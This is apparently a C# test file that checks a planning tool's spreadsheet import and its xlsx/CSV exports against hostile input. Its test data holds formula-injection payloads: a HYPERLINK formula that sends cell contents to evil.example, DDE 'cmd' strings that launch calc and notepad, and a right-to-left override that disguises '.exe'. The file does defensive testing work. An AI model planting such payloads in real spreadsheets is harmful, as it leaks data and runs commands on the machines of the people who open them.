using System.IO.Compression;
using System.Security;
using System.Text;
using ClosedXML.Excel;
using PlanTracker.Testing.Structures;
using PlanTracker.Testing.Workbooks;
using static PlanTracker.Testing.Workbooks.RawWorkbook;

namespace PlanTracker.Cli.Tests.Reliability;

/// <summary>
/// Hostile text typed by an officer (formula prefixes, control characters, emoji, a right-to-left override) goes
/// through import and both exports: stored exactly as typed, inert in the xlsx (text cells, no formula anywhere),
/// neutralised in the CSV (a leading apostrophe on risky fields), and the database unchanged by the exports.
/// </summary>
public class ExportRoundTripTests
{
    private static readonly (string Name, string Comment)[] Hostile =
    [
        ("=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")", "=1+1"),
        ("+cmd|' /C calc'!A0", "+33 1 23 45 67 89"),
        ("-2+3+cmd|' /C notepad'!'A1'", "- tiret en tête"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "@mention"),
        ("Régie\u0007 \u001b[31mrouge\u001b[0m", "cloche\u0007 et échappement \u001b[2J"),
        ("Épicerie 🌱🧺 solidaire 👩🏽‍🌾", "🎉 emoji partout 🇫🇷"),
        ("Régie \u202Eelcyc\u202C de quartier", "\u202Ecod.exe"),
        ("a;b\"c", "ligne 1\r\nligne 2;\"guillemets\""),
    ];

    [Test]
    public async Task Hostile_text_is_stored_as_typed_and_inert_in_every_export()
    {
        using var cli = new CliRun();
        var workbook = Path.Combine(cli.Folder, "hostile.xlsx");
        await File.WriteAllBytesAsync(workbook, new RawWorkbook().Sheet("Emplois",
        [
            JobsHeader(),
            .. Hostile.Select((h, i) => JobsLine(i + 2, siret: Sirets.Numbered(900 + i),
                replace: [('C', InlineXml($"C{i + 2}", OoxmlText(h.Name))), ('I', InlineXml($"I{i + 2}", OoxmlText(h.Comment)))])),
        ]).Build());

        var imported = await cli.RunAsync("import", workbook);
        imported.Exit.Should().Be(0, imported.Error);
        var stored = Stored(cli);
        stored.Should().Equal(Hostile, "the database keeps exactly what was typed");

        var xlsx = await cli.RunAsync("export", "--format", "xlsx", "--out", "export.xlsx");
        var csv = await cli.RunAsync("export", "--format", "csv", "--out", "export.csv");
        xlsx.Exit.Should().Be(0, xlsx.Error);
        csv.Exit.Should().Be(0, csv.Error);

        AssertInertXlsx(Path.Combine(cli.Folder, "export.xlsx"));
        AssertNeutralisedCsv(Path.Combine(cli.Folder, "export.csv"));
        Stored(cli).Should().Equal(Hostile, "exports read, never write");
        (await cli.RunAsync("import", workbook)).Out.Should().Contain("déjà importé");
    }

    private static void AssertInertXlsx(string path)
    {
        using (var zip = ZipFile.OpenRead(path))
        {
            foreach (var sheet in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal)))
            {
                using var reader = new StreamReader(sheet.Open());
                var xml = reader.ReadToEnd();
                xml.Should().NotContain("<f>").And.NotContain("<f ").And.NotContain(":f>", $"{sheet.FullName} holds no formula");
            }
        }

        using var workbook = new XLWorkbook(path);
        var cells = workbook.Worksheets.SelectMany(s => s.CellsUsed()).ToList();
        foreach (var (name, comment) in Hostile)
        {
            foreach (var text in new[] { name, comment })
            {
                // REVIEW: a carriage return comes back as a bare line feed: the export writes it raw, and XML reading
                // normalises CRLF to LF (Excel shows the same line break). Everything else is kept exactly.
                var expected = text.Replace("\r\n", "\n", StringComparison.Ordinal);
                var cell = cells.FirstOrDefault(c => c.DataType == XLDataType.Text && c.GetString() == expected);
                cell.Should().NotBeNull($"the export holds \"{Escape(text)}\" as a text cell, unchanged");
                cell!.HasFormula.Should().BeFalse();
            }
        }
    }

    private static void AssertNeutralisedCsv(string path)
    {
        var fields = ParseCsv(File.ReadAllText(path, Encoding.UTF8), ';').SelectMany(r => r).ToHashSet();
        foreach (var (name, comment) in Hostile)
        {
            foreach (var text in new[] { name, comment })
            {
                var expected = text[0] is '=' or '+' or '-' or '@' ? "'" + text : text;
                fields.Should().Contain(expected, $"\"{Escape(text)}\" is in the CSV{(expected == text ? "" : " behind an apostrophe")}");
            }
        }

        fields.Where(f => f.Length > 0 && f[0] is '=' or '+' or '@').Should().BeEmpty("no field starts with a formula prefix");
    }

    private static List<(string Name, string Comment)> Stored(CliRun cli)
    {
        using var connection = Figures.Open(cli.DbPath);
        using var command = connection.CreateCommand();
        command.CommandText = "SELECT structure_name, comment FROM job_line WHERE siret LIKE '30000000009%' ORDER BY siret";
        using var reader = command.ExecuteReader();
        var rows = new List<(string, string)>();
        while (reader.Read())
        {
            rows.Add((reader.GetString(0), reader.GetString(1)));
        }

        return rows;
    }

    /// <summary>Text as it sits in an OOXML &lt;t&gt;: markup escaped, control characters and CR as _xHHHH_.</summary>
    private static string OoxmlText(string text)
    {
        var escaped = new StringBuilder();
        foreach (var c in SecurityElement.Escape(text))
        {
            escaped.Append(c < 0x20 && c != '\n' ? $"_x{(int)c:X4}_" : c.ToString());
        }

        return escaped.ToString();
    }

    /// <summary>RFC 4180 with the given separator: quoted fields may hold separators, quotes (doubled) and line breaks.</summary>
    private static List<List<string>> ParseCsv(string text, char separator)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = text.Length > 0 && text[0] == '\uFEFF' ? 1 : 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"' && field.Length == 0)
            {
                quoted = true;
            }
            else if (c == separator)
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add(row);
                row = [];
                i++;
            }
            else
            {
                field.Append(c);
            }
        }

        return rows;
    }

    private static string Escape(string text) => string.Concat(text.Select(c => c < 0x20 ? $"\\u{(int)c:X4}" : c.ToString()));
}
